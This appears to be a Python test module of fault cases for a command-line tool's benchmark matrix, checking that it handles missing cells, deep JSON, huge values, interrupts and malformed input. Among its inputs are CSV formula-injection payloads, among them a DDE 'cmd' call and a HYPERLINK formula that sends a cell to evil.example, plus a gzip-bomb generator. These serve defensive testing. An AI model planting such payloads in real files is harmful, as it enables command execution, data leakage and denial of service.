"""The fault cases of issue 42's defects 2, 7, 10 and 12 (crashes, tracebacks, formula
injection, smaller faults) for ``python -m benchmarks.fault_matrix`` (merged into
:data:`benchmarks.faults_cases.CASES`), and the inputs ``tests/test_faults_crash.py``
builds from.

Each case applies to one or two of :data:`benchmarks.faults_lib.COMMANDS` (None for the
others), runs the command on the faulty input and returns an
:class:`~benchmarks.faults_lib.Outcome`; a check of the case that fails is a note
starting with ``FAIL``, which the matrix counts as a problem.
"""

from __future__ import annotations

import contextlib
import dataclasses
import gzip
import io
import json
import os
import shutil
import signal
import sys
import traceback
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd

from benchmarks.faults_lib import (
    SIM_ARGS,
    Command,
    Outcome,
    chdir,
    dispatch,
    essays,
    judge_outcome,
    paused,
    run,
    sim_table,
    snapshot,
)

#: the estimate arguments of :func:`equal_labels`' table (``[:-2]``: without the group)
EQUAL_ARGS = ["--label", "y", "--judge", "j1", "--judge", "j2", "--engine", "freq",
              "--group", "g"]  # fmt: skip


# --- inputs ------------------------------------------------------------------------------


def text_table(path: Path, n: int = 80) -> None:
    """Judge scores, a response text and labels on every other item; the text of one
    labeled item (row 4) is missing."""
    rng = np.random.default_rng(0)
    q = rng.normal(3, 1, n)
    frame = pd.DataFrame(
        {
            "item": [f"i{k}" for k in range(n)],
            "response": [" ".join(["word"] * int(k)) for k in rng.integers(10, 300, n)],
            "j1": q + rng.normal(0, 0.5, n),
            "j2": q + rng.normal(0, 0.7, n),
            "y": np.where(np.arange(n) % 2 == 0, q + rng.normal(0, 0.3, n), np.nan),
        }
    )
    frame.loc[4, "response"] = None
    frame.to_csv(path, index=False)


def deep_json(root: Path) -> None:
    """``deep.json`` (a list 5,000 deep), ``deep.jsonl`` (a value 100,000 deep) and
    ``deep_objects.jsonl`` (objects 5,000 deep)."""
    (root / "deep.json").write_text("[" * 5000 + "]" * 5000)
    (root / "deep.jsonl").write_text('{"id": 1, "a": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    deep = '{"b": ' * 5000 + "1" + "}" * 5000
    (root / "deep_objects.jsonl").write_text('{"id": 1, "a": ' + deep + "}\n")


def equal_labels(path: Path, n: int = 120, value: float | None = 3.0) -> None:
    """Two judges over three groups, every other item labeled ``value`` (None: labels
    that vary)."""
    rng = np.random.default_rng(0)
    labels = rng.normal(3, 1, n) if value is None else np.full(n, value)
    pd.DataFrame(
        {
            "item": [f"i{k}" for k in range(n)],
            "j1": rng.normal(3, 1, n),
            "j2": rng.normal(3, 1, n),
            "g": np.array(["a", "b", "c"])[np.arange(n) % 3],
            "y": np.where(np.arange(n) % 2 == 0, labels, np.nan),
        }
    ).to_csv(path, index=False)


def edit_config(source: Path, dest: Path, edit: str) -> None:
    """A copy of the saved calibrator ``source`` whose settings are changed: ``list``
    (a JSON list), ``folds`` (-3), ``seed`` (-1), ``winsor`` (reversed), ``scale`` (one
    that leaves out saved labels), ``unknown``."""
    import h5py

    shutil.copy(source, dest)
    with h5py.File(dest, "r+") as handle:
        config = json.loads(handle.attrs["config"])
        if edit == "list":
            config = [1, 2]
        elif edit == "folds":
            config["folds"] = -3
        elif edit == "seed":
            config["seed"] = -1
        elif edit == "winsor":
            config["winsor"] = [0.9, 0.1]
        elif edit == "scale":
            config["scale"] = [2.9, 3.1]
        else:
            config["colour"] = "red"
        handle.attrs["config"] = json.dumps(config)


def formula_study(root: Path, n: int = 30) -> None:
    """``pool.csv`` whose ids and ``text`` start with formula characters, and a study of
    one wave of every item, its to-label file ``todo.csv`` (with ``--show text``)."""
    rng = np.random.default_rng(0)
    ids = [
        f'=HYPERLINK("http://x/{i}")' if i % 3 == 0 else f"-{i}" if i % 3 == 1 else f"@doc{i}"
        for i in range(n)
    ]
    pd.DataFrame(
        {
            "id": ids,
            "text": ["+cmd|' /C calc'!A0" if i % 2 else "fine" for i in range(n)],
            "judge_a": rng.normal(3, 1, n).round(2),
            "judge_b": rng.normal(3, 1, n).round(2),
        }
    ).to_csv(root / "pool.csv", index=False)
    code, err = run(
        ["sample", "pool.csv", "--study", "study", "--budget", str(n), "--item", "id",
         "--label", "human", "--levels", "1,2,3,4,5", "--outcome", "ordinal",
         "--judge", "judge_a", "--judge", "judge_b", "--show", "text", "--out", "todo.csv"],
        root,
    )  # fmt: skip
    assert code == 0, err


def essays_table(path: Path) -> None:
    """The 12 essays of ``bacon judge``'s fault cases."""
    essays(path)


def judge_argv(url: str, out: str) -> list[str]:
    """``bacon judge items.csv`` with one judge at ``url``, no retries to speak of."""
    return ["judge", "items.csv", "--judge", f"a=judge-a@{url}", "--template", "essay",
            "--out", out, "--api-key-env", "", "--backoff-base", "0.01", "--max-attempts",
            "1", "--no-progress"]  # fmt: skip


def duplicate_columns(path: Path) -> None:
    """A CSV whose columns 2 and 4 are both named ``gpt4``."""
    rows = [f"i{k},{k % 5},{k % 3 + 1 if k % 2 else ''},{(k + 2) % 5}" for k in range(40)]
    path.write_text("id,gpt4,y,gpt4\n" + "\n".join(rows) + "\n")


def gzip_bomb(path: Path, members: int = 1300) -> None:
    """A gzip of a two-column CSV that decompresses to ``members`` MB of ``0,0`` rows
    (about 1 kB on disk per MB: gzip members of 1 MB each, concatenated)."""
    block = gzip.compress(b"0,0\n" * (1 << 18), compresslevel=9)
    with open(path, "wb") as handle:
        handle.write(gzip.compress(b"a,b\n"))
        for _ in range(members):
            handle.write(block)


def prepare_interrupt(command: str, root: Path) -> list[str]:
    """The inputs of a command to interrupt in ``root``, and its arguments."""
    if command == "simulate":
        sim_table(root / "t.csv")
        return ["simulate", "t.csv", *SIM_ARGS, "--out", "sim"]
    equal_labels(root / "t.csv", value=None)
    return ["estimate", "t.csv", *EQUAL_ARGS[:-2], "--history", "history.jsonl"]


def run_out(argv: list[str], cwd: Path) -> tuple[int, str, str]:
    """:func:`benchmarks.faults_lib.run`, and what the command printed."""
    err, out = io.StringIO(), io.StringIO()
    with chdir(cwd), contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        try:
            code = dispatch(argv)
        except BaseException:
            traceback.print_exc()
            code = 1
    return code, err.getvalue(), out.getvalue()


# --- the cases ---------------------------------------------------------------------------


def _outcome(
    cmd: Command, root: Path, argv: list[str], expect: int, side: tuple[str, ...] = ()
) -> tuple[Outcome, str]:
    """Run ``argv`` in ``root`` and judge it as ``cmd`` (files in ``side`` may appear);
    a note ``FAIL`` when the exit code is not ``expect``. Returns the outcome and stdout."""
    before = snapshot(root)
    code, err, out = run_out(argv, root)
    outcome = judge_outcome(dataclasses.replace(cmd, side=side), root, before, cmd.out, code, err)
    if code != expect:
        outcome.note = f"FAIL: exit {code}, expected {expect}"
    return outcome, out


def case_missing_text(cmd: Command, root: Path) -> Outcome | None:
    """``doctor`` and ``report`` on a text column with one missing cell."""
    if cmd.name != "report":
        return None
    text_table(root / "t.csv")
    code, err, out = run_out(["doctor", "t.csv", "--label", "y"], root)
    argv = ["report", "t.csv", "--label", "y", "--judge", "j1", "--judge", "j2",
            "--engine", "freq", "--out", cmd.out]  # fmt: skip
    outcome, _ = _outcome(cmd, root, argv, 0)
    if code != 0 or "Traceback" in err:
        outcome.err += err
        outcome.note = f"FAIL: doctor exit {code}"
    elif "1 labeled item with no text left out" not in out:
        outcome.note = "FAIL: doctor does not say what it left out"
    outcome.note = outcome.note or "doctor and report say 1 item left out"
    return outcome


def case_deep_json(cmd: Command, root: Path) -> Outcome | None:
    if cmd.name != "estimate --history":
        return None
    deep_json(root)
    argv = ["estimate", "deep.jsonl", "--label", "y", "--judge", "j", "--history", cmd.out]
    return _outcome(cmd, root, argv, 2)[0]


def case_huge_labels(cmd: Command, root: Path) -> Outcome | None:
    if cmd.name != "estimate --history":
        return None
    equal_labels(root / "t.csv", value=1e308)
    argv = ["estimate", "t.csv", *EQUAL_ARGS[:-2], "--history", cmd.out]
    return _outcome(cmd, root, argv, 2)[0]


def case_equal_labels(cmd: Command, root: Path) -> Outcome | None:
    """All labels equal with ``--group`` and ``--save``: no traceback; the calibrator is
    saved only by a run that succeeds."""
    if cmd.name != "estimate --history":
        return None
    equal_labels(root / "t.csv")
    argv = ["estimate", "t.csv", *EQUAL_ARGS, "--save", "cal.nc", "--history", cmd.out]
    outcome, _ = _outcome(cmd, root, argv, 0, side=("cal.nc",))
    if outcome.code != 0 and (root / "cal.nc").exists():
        outcome.note = "FAIL: a failed run saved its calibrator"
    outcome.note = outcome.note or "groups skipped with the reason; saved once done"
    return outcome


def _saved_calibrator(root: Path, edit: str) -> None:
    equal_labels(root / "t.csv", value=None)
    code, err = run(["estimate", "t.csv", *EQUAL_ARGS[:-2], "--save", "good.nc"], root)
    assert code == 0, err
    edit_config(root / "good.nc", root / "cal.nc", edit)
    (root / "good.nc").unlink()


def case_calibrator_config(cmd: Command, root: Path, edit: str) -> Outcome | None:
    if cmd.name != "report":
        return None
    _saved_calibrator(root, edit)
    return _outcome(cmd, root, ["report", "cal.nc", "--out", cmd.out], 2)[0]


def case_interrupt(cmd: Command, root: Path) -> Outcome | None:
    """SIGINT (Ctrl-C) to the command paused after claiming its output; then a rerun."""
    from benchmarks.faults_cases import rerun

    names = {"estimate --history": "estimate --history", "simulate": "simulate"}
    if cmd.name not in names:
        return None
    argv = prepare_interrupt(names[cmd.name], root)
    before = snapshot(root)
    proc = paused(argv, root, "claimed")
    os.kill(proc.pid, signal.SIGINT)
    err = proc.communicate(timeout=60)[1]
    outcome = judge_outcome(cmd, root, before, cmd.out, proc.returncode, err)
    if proc.returncode != 130:
        outcome.note = f"FAIL: exit {proc.returncode}, expected 130"
        return outcome
    if cmd.name != "simulate":  # the matrix's estimate runs on another table
        outcome.note = "interrupted cleanly"
        return outcome
    return rerun(cmd, root, outcome, cmd.out)


def _formula_cells(path: Path, columns: list[str]) -> list[str]:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return [v for c in columns for v in frame[c] if v[:1] in ("=", "+", "@", "\t", "\r")]


def case_formula(cmd: Command, root: Path) -> Outcome | None:
    """Ids, shown text and judge replies that start with ``= + - @``: neutralised in the
    files meant for people, and read back as they were."""
    from bacon_bayes.testing.fake_server import FakeChatServer, Reply, numeric_reply

    if cmd.name == "sample":
        formula_study(root)
        (root / "todo.csv").unlink()
        argv = ["status", "study", "--pending-out", "todo.csv", "--show", "text"]
        pending = dataclasses.replace(cmd, complete=lambda p: len(pd.read_csv(p)) == 30)
        outcome, _ = _outcome(pending, root, argv, 0)
        left = _formula_cells(root / "todo.csv", ["id", "text"])
    elif cmd.name == "judge":
        essays_table(root / "items.csv")

        def script(request):
            if "1 " in request.user_text:
                return Reply('=HYPERLINK("http://evil.example/?"&A1, "4")')
            return numeric_reply(request.user_text)

        with FakeChatServer(script) as server:
            argv = judge_argv(server.url, cmd.out)
            outcome, _ = _outcome(cmd, root, argv, 0, side=(cmd.out + ".cache.sqlite",))
        left = _formula_cells(root / cmd.out, ["raw"])
    else:
        return None
    if left:
        outcome.note = f"FAIL: {len(left)} formula cells, e.g. {left[0]!r}"
    outcome.note = outcome.note or "formula cells quoted"
    return outcome


def case_judge_no_reply(cmd: Command, root: Path) -> Outcome | None:
    from bacon_bayes.testing.fake_server import FakeChatServer, Status

    if cmd.name != "judge":
        return None
    essays_table(root / "items.csv")
    with FakeChatServer(lambda request: Status(400)) as server:
        outcome, _ = _outcome(cmd, root, judge_argv(server.url, cmd.out), 2)
    cache = root / (cmd.out + ".cache.sqlite")
    if cache.exists():
        outcome.note = f"FAIL: {cache.name} left ({cache.stat().st_size} bytes)"
    outcome.note = outcome.note or "no cache left"
    return outcome


def case_duplicate_columns(cmd: Command, root: Path) -> Outcome | None:
    if cmd.name != "estimate --history":
        return None
    duplicate_columns(root / "t.csv")
    argv = ["estimate", "t.csv", "--label", "y", "--judge", "gpt4", "--engine", "freq",
            "--history", cmd.out]  # fmt: skip
    return _outcome(cmd, root, argv, 2)[0]


def case_gzip_bomb(cmd: Command, root: Path) -> Outcome | None:
    """A 1.3 MB gzip of 1.3 GB of rows."""
    if cmd.name != "estimate --history":
        return None
    gzip_bomb(root / "t.csv.gz")
    argv = ["estimate", "t.csv.gz", "--label", "a", "--judge", "b", "--history", cmd.out]
    return _outcome(cmd, root, argv, 2)[0]


CASES: dict[str, Callable[[Command, Path], Outcome | None]] = {
    "text cell missing (doctor, report)": case_missing_text,
    "JSON nested 100,000 deep": case_deep_json,
    "labels of 1e308": case_huge_labels,
    "all labels equal, --group --save": case_equal_labels,
    "calibrator config a JSON list": lambda c, r: case_calibrator_config(c, r, "list"),
    "calibrator folds=-3": lambda c, r: case_calibrator_config(c, r, "folds"),
    "Ctrl-C": case_interrupt,
    "formula cells (=, +, -, @)": case_formula,
    "judge: no call answered": case_judge_no_reply,
    "two columns named gpt4": case_duplicate_columns,
    "gzip bomb (1.3 MB -> 1.3 GB)": case_gzip_bomb,
}

if __name__ == "__main__":  # pragma: no cover
    sys.exit("run: python -m benchmarks.fault_matrix")
